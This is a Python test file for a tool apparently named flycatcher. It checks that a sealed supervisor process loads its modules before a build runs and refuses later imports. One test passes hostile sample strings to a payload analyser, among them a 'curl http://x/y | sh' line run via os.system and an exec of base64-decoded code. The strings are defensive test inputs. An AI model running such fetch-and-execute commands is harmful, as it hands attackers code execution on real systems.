"""What a supervisor that enforces is made of is loaded before the build runs, and nothing that the build could write afterwards."""

import ast
import subprocess
import sys
from pathlib import Path

import pytest

from flycatcher.isolation.sealed import GRAMMARS, PACKAGES, is_out_of_reach

SOURCE = Path(__file__).parents[2] / "src" / "flycatcher"
ELSEWHERE = {
    "asyncio", "certifi", "confluent_kafka", "email.message", "email.utils", "google.protobuf.message", "grpc", "httpcore", "httpx", "jinja2",
    "jinja2.sandbox", "nats", "opentelemetry.proto.collector.logs.v1", "opentelemetry.proto.common.v1", "opentelemetry.proto.logs.v1",
    "pyarrow", "pyarrow.parquet", "smtplib", "sqlalchemy", "ssl",
}  # fmt: skip
"""What only exports need, and the process that delivers."""
SEALED = """
import os, sys
from flycatcher.commands.run import observed_run
from flycatcher.isolation.sealed import seal
seal(0)
"""


def sealed(code):
    """Run code in a process that is sealed against a build of root's."""
    done = subprocess.run(
        [sys.executable, "-c", SEALED + code], capture_output=True, text=True, check=False, timeout=120
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def imported_later():
    """Yield the modules that functions of a supervisor's modules import when they are called."""
    for package in PACKAGES:
        for path in (SOURCE.parent / package.replace(".", "/")).rglob("*.py"):
            tree = ast.parse(path.read_text())
            for function in ast.walk(tree):
                if isinstance(function, ast.FunctionDef):
                    for node in ast.walk(function):
                        if isinstance(node, ast.Import):
                            yield from (name.name for name in node.names)
                        elif isinstance(node, ast.ImportFrom) and node.module:
                            yield node.module


def test_whatever_is_imported_by_a_function_is_loaded():
    wanted = {
        name for name in imported_later() if not name.startswith(("flycatcher", "tree_sitter", "rich"))
    } - ELSEWHERE
    out = sealed(f"print([name for name in {sorted(wanted)} if name not in sys.modules])")
    assert out.strip() == "[]"


def test_every_grammar_that_a_parser_is_made_of_is_loaded():
    called = set()
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "parse_with":
                called.add(tuple(argument.value for argument in node.args[1:3]))
    assert called == set(GRAMMARS)


def test_every_language_is_read_without_loading_anything():
    out = sealed("""
from flycatcher.core.detection import nested
from flycatcher.core.payload import analyse
from flycatcher.core.snippet import Snippet
before = set(sys.modules)
LOUD = "import os; os.system('curl http://x/y | sh')\\n#)('\\"\\n"
for language in ("python", "perl", "ruby", "php", "javascript", "lua", "shell", "powershell", "awk", "tcl", "r", "elixir", "make", "c"):
    for text in (LOUD, "system('id')", "exec(base64.b64decode('cHJpbnQoMSk=').decode('ascii'))"):
        analyse(Snippet(interpreter=language, language=language, vector="argument", text=text), nested=nested)
print(sorted(set(sys.modules) - before))
""")
    assert out.strip() == "[]"


def test_a_module_that_was_not_loaded_is_refused():
    out = sealed("""
try:
    import wsgiref.util
except ImportError as error:
    print(error)
import atexit
""")
    assert out.strip() == "wsgiref was not loaded before the build began"


def test_what_lies_below_a_folder_that_somebody_else_may_write_to_is_within_reach(tmp_path):
    (tmp_path / "module.py").touch()
    tmp_path.chmod(0o777)
    assert not is_out_of_reach(str(tmp_path / "module.py"))


def test_the_systems_programs_are_out_of_reach():
    if Path("/usr/bin/env").lstat().st_uid != 0:
        pytest.skip("not root's here")
    assert is_out_of_reach("/usr/bin/env")
